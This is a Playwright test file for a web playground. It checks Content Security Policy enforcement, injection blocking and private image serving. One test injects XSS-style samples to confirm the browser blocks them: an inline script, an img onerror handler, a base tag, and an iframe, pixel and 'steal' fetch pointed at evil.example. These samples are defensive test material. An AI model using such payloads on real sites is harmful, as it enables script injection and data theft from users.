import { expect, type Page, type Route, test } from "@playwright/test";

/** Violations as the page itself is told of them. */
async function watchViolations(page: Page): Promise<() => Promise<readonly string[]>> {
	await page.addInitScript(() => {
		const seen: string[] = [];
		Object.assign(window, { seenViolations: seen });
		document.addEventListener("securitypolicyviolation", ({ violatedDirective, blockedURI }) => {
			seen.push(`${violatedDirective}: ${blockedURI}`);
		});
	});
	return () => page.evaluate(() => Reflect.get(window, "seenViolations"));
}

test("the playground works without breaking its own policy", async ({ page }) => {
	const violations = await watchViolations(page);
	const complaints: string[] = [];
	page.on("pageerror", (error) => complaints.push(error.message));
	page.on("console", (message) => {
		if (message.type() === "error") complaints.push(message.text());
	});
	await page.goto("/");
	const prompt = page.getByRole("textbox", { name: "Prompt", exact: true });
	await prompt.fill("A kite over the sea.");
	await expect(page.getByRole("status", { name: "Prompt length" })).toContainText("20");
	expect(await violations()).toEqual([]);
	expect(complaints).toEqual([]);
});

test("what somebody slips into the page does not run", async ({ page }) => {
	const violations = await watchViolations(page);
	const slip = async (route: Route) => {
		const response = await route.fetch();
		const slipped = `<script>window.slipped = "inline script"</script><base href="https://evil.example/">`;
		await route.fulfill({ response, body: (await response.text()).replace("</head>", `${slipped}</head>`) });
	};
	await page.route("/", slip, { times: 1 });
	await page.goto("/");
	await page.evaluate(async () => {
		const holder = document.createElement("div");
		holder.innerHTML = `<img src="x:" onerror="window.slipped = 'handler'">`;
		document.body.append(holder);
		const style = document.createElement("style");
		style.textContent = "body { display: none }";
		document.head.append(style);
		const frame = document.createElement("iframe");
		frame.src = "https://evil.example/";
		document.body.append(frame);
		const picture = new Image();
		picture.src = "https://evil.example/pixel.png";
		await fetch("https://evil.example/steal").catch(() => {});
	});
	const directives = async () => [...new Set((await violations()).map((each) => each.split(":")[0]))].sort();
	await expect
		.poll(directives)
		.toEqual([
			"base-uri",
			"connect-src",
			"frame-src",
			"img-src",
			"script-src-attr",
			"script-src-elem",
			"style-src-elem",
		]);
	expect(await page.evaluate(() => Reflect.get(window, "slipped"))).toBeUndefined();
	await expect(page.locator("body")).toBeVisible();
});

test("a picture is added, shown and kept from other browsers", async ({ page, browser }) => {
	const violations = await watchViolations(page);
	await page.goto("/");
	const pixels = await page.evaluate(() => {
		const canvas = document.createElement("canvas");
		canvas.width = 640;
		canvas.height = 360;
		return canvas.toDataURL("image/png").split(",")[1] ?? "";
	});
	const file = { name: "frame.png", mimeType: "image/png", buffer: Buffer.from(pixels, "base64") };
	await page.getByLabel("Image file").setInputFiles(file);
	const shown = page.getByRole("img", { name: "The first frame" });
	await expect(shown).toBeVisible();
	await expect.poll(() => shown.evaluate((image) => image instanceof HTMLImageElement && image.naturalWidth)).toBe(320);

	const source = await shown.getAttribute("src");
	const stranger = await browser.newContext();
	const answer = await stranger.request.get(new URL(source ?? "", page.url()).href);
	expect(answer.status()).toBe(404);
	await stranger.close();
	expect(await violations()).toEqual([]);
});
